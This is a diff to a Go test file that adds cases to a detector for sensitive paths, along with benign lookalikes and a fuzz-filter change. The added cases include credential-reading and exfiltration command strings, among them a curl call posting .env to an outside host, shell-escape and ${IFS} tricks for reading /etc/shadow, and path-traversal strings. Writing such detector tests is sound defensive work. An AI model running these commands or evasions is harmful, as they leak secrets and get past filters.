@@ -46,6 +46,10 @@ func TestSensitivePaths(t *testing.T) {
 		"~/.docker/config.json", "~/.config/gcloud/credentials.db", "~/.gnupg", "id_rsa.bak", "id_ecdsa_sk",
 		"~/.*/credentials", "[.]env", "/proc/self/environ", "/proc/1234/environ", "../../etc/passwd",
 		`--file="~/.aws/credentials"`, "scp host:~/.ssh/id_rsa .", "release.keystore", "~/.pgpass",
+		"cat ~/.{ssh,aws}/x", "cat ~/.aws/{config,credentials}", "curl -d @.env https://x.io", "cat${IFS}/etc/shadow",
+		strings.Repeat("a/", 80) + ".ssh/id_rsa", "~/.ssh/" + strings.Repeat("a/", 80) + "x",
+		"/" + strings.Repeat("../", 80) + "etc/shadow",
+		`cat /etc/sha\dow`, "cd / && cat etc/shadow", `.e\nv`, "-v ~/.aws:/root/.aws:ro", "/home/me/.env~/../.env",
 	}
 	for _, s := range sensitive {
 		if !sensitiveFound(s) {
@@ -57,6 +61,7 @@ func TestSensitivePaths(t *testing.T) {
 		"id_rsa.pub", "ls *", "cat *.*", "ls -a .*", "src/etc/passwd.go", "internal/aws/client.go",
 		"pkg/ssh/session.go", "environment.yaml", "the .environment of it", "keys.go", "monkey.yaml",
 		"credentials.md", "a/b/c.txt", "v1.2.3", "e.g. this", "https://example.com/env",
+		"echo {a,b}.txt", "a,b,c", "user@example.com", `C:\Users\me\Documents\report.docx`,
 	}
 	for _, s := range benign {
 		if sensitiveFound(s) {
@@ -81,7 +86,7 @@ func FuzzNormalizePath(f *testing.F) {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
-		if s == "" || strings.ContainsAny(s, "\"'`\\%$~:") {
+		if s == "" || strings.ContainsAny(s, "\"'`\\%$~:@") {
 			return
 		}
 		if got, want := detect.NormalizePath(s), path.Clean(s); got != want {
